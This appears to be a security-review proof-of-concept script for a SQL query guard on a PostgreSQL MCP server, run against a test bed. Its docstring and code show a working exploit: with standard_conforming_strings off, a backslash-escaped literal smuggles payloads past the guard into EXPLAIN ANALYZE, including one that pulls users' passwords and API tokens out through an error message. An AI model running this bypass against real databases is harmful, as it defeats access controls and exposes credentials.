"""attack3 / F19: the guard parses SQL with pglast, i.e. as if standard_conforming_strings were
ON, and never checks the session's setting. With it OFF (a role, database or postgresql.conf
setting some legacy applications still need, or `options=-c standard_conforming_strings=off`
in the DSN), PostgreSQL reads a backslash in a plain literal as an escape: `'a\'` is a complete
literal for the guard but an open one for PostgreSQL. The guard judges two string constants,
`SELECT 'a\', ' || (<payload>)::text --'`; the statement it deparses for explain_query
(EXPLAIN (FORMAT JSON, ANALYZE) <that>) reads, for PostgreSQL, as
`SELECT 'a'', ' || (<payload>)::text` (the rest is a comment), and ANALYZE runs the payload as
the server, with no guard at all: an XID consumed, and a redacted column read in clear through
an unscrubbed error (its lineage comes from the guard's parse, where it is a constant). (A
NOTIFY or set_config is rolled back with the statement's transaction: shown as not delivered.) The payload may not contain `'` (it is inside the guard's literal): dollar
quotes instead.
(execute_query's wrapper puts its own text after the select list, which the comment would
swallow: refused there with a syntax error, not exploited here.)

Usage (bed and setup.py first, see README.md):
  PYTHONPATH=tests:security-review uv run python security-review/scs_off.py"""
import asyncio, json
import asyncpg
from mcpclient import connect
from common import DSN, as_role, tool


def smuggle(payload: str) -> str:
    return "SELECT 'a\\', ' || (" + payload + ")::text --'"


PAYLOADS = [
    ("xid", "pg_catalog.pg_current_xact_id()"),
    ("notify", "pg_catalog.pg_notify($$atk$$, $$from the server$$)"),
    ("set_config", "pg_catalog.set_config($$application_name$$, $$PWNED-scs$$, false)"),
    ("secret", "(SELECT pg_catalog.string_agg(password || $$/$$ || api_token, $$,$$) FROM public.users)::int"),
]


async def main() -> None:
    adm = await asyncpg.connect(DSN)
    await adm.execute("ALTER ROLE reader SET standard_conforming_strings = off")
    listener = await asyncpg.connect(as_role("attacker"))
    got: list[str] = []
    await listener.add_listener("atk", lambda *a: got.append(a[3]))
    try:
        async with connect(as_role("reader")) as c:
            ok, body = await tool(c, "execute_query", sql="SELECT password FROM users ORDER BY id")
            print("control, password through execute_query:", ok, json.dumps(body.get("rows", body.get("error")))[:200])
            before = await adm.fetchval("SELECT pg_current_xact_id()::text")
            for name, payload in PAYLOADS:
                ok, body = await tool(c, "explain_query", sql=smuggle(payload), analyze=True)
                shown = body.get("error", {}).get("message") if not ok else str(body)[:200]
                print(f"{name}: ok={ok}", json.dumps(shown)[:300])
            after = await adm.fetchval("SELECT pg_current_xact_id()::text")
            print("next xid before/after (admin session, 1 each):", before, after)
            ok, body = await tool(c, "execute_query", sql="SELECT current_setting($$application_name$$) AS app")
            print("server session application_name now:", json.dumps(body.get("rows", body))[:200])
        await asyncio.sleep(0.3)
        print("notifications the attacker's session received:", got)
    finally:
        await adm.execute("ALTER ROLE reader RESET standard_conforming_strings")
        await adm.close(); await listener.close()

if __name__ == "__main__":
    asyncio.run(main())
